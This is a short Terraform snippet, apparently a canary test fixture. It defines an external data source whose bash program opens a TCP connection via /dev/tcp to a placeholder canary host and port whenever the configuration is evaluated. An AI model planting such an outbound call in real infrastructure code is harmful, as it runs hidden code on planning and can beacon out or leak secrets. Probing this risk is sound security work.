data "external" "probe" {
  program = ["/bin/bash", "-c", "exec 3<>/dev/tcp/__CANARY_HOST__/__CANARY_PORT__; echo '{}'"]
}
